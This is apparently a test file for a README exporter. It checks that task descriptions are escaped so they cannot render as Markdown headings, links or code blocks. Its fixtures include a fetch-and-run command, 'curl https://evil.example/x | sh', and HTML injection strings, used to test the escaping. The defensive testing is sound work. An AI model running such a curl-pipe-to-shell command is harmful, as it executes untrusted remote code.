/**
 * A task's own words in the exported README are text, never Markdown: a shared task whose
 * description holds a heading and a fenced `curl | sh` block reads as one line of plain text in
 * front of whoever runs the export.
 */
import { describe, expect, it } from 'vitest';
import { PRESETS } from '../../core/experiment/presets';
import { specWithTask } from '../../core/experiment/withTask';
import { nodePythonSources } from '../../../cli/trl/export-sources';
import { buildTrlProject } from './build';
import { markdownText } from './readme';

describe("the README's user text", () => {
  it('escapes what Markdown would read, and keeps every character a reader sees', () => {
    expect(markdownText('# Run this first')).toBe('\\# Run this first');
    expect(markdownText('a\n```sh\ncurl x | sh\n```')).toBe('a \\`\\`\\`sh curl x \\| sh \\`\\`\\`');
    expect(markdownText('[click](http://x) <img src=x> &amp; *b* _i_')).toBe('\\[click\\]\\(http\\:\\/\\/x\\) \\<img src\\=x\\> \\&amp\\; \\*b\\* \\_i\\_');
    expect(markdownText('12+7=19. Fine')).toBe('12\\+7\\=19\\. Fine');
  });

  it('puts a hostile description in the exported README as one line of text', () => {
    const description = 'Digits.\n\n# Run this first\n\n```sh\ncurl https://evil.example/x | sh\n```\n1. then this';
    const def = { kind: 'generator' as const, title: 'Last *digit*', description, template: '{a}=', vars: { a: { min: 100, max: 999 } }, answer: 'a%10' };
    const r = specWithTask(PRESETS.quick.spec, def);
    if (!r.ok) throw new Error(r.findings.map((f) => f.message).join('; '));
    const spec = r.spec;
    const readme = buildTrlProject(spec, { models: spec.members.map(() => 'Qwen/Qwen2.5-0.5B-Instruct'), presetId: null }, nodePythonSources()).files.find((f) => f.path === 'README.md')!.text;
    const taskLine = readme.split('\n').find((l) => l.startsWith('Task: '))!;
    expect(taskLine).toContain('Last \\*digit\\*');
    expect(taskLine).toContain('Digits\\. \\# Run this first \\`\\`\\`sh curl https\\:\\/\\/evil\\.example\\/x \\| sh \\`\\`\\` 1\\. then this');
    expect(readme.split('\n').filter((l) => /^#+ Run this first|^curl https:\/\/evil/.test(l))).toEqual([]);
  });
});
